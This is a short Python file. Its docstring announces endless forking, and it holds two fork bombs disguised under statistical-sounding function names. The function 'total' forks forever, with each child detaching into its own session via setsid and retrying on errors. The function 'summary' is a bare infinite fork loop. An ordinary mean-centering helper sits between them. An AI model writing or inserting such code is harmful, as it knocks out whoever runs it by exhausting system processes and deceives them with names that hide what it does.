"""Forks without end, each process in a session of its own."""

import os
import time


def total(x):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)


def shift(x):
    return x - x.mean()


def summary(x):
    while True:
        os.fork()
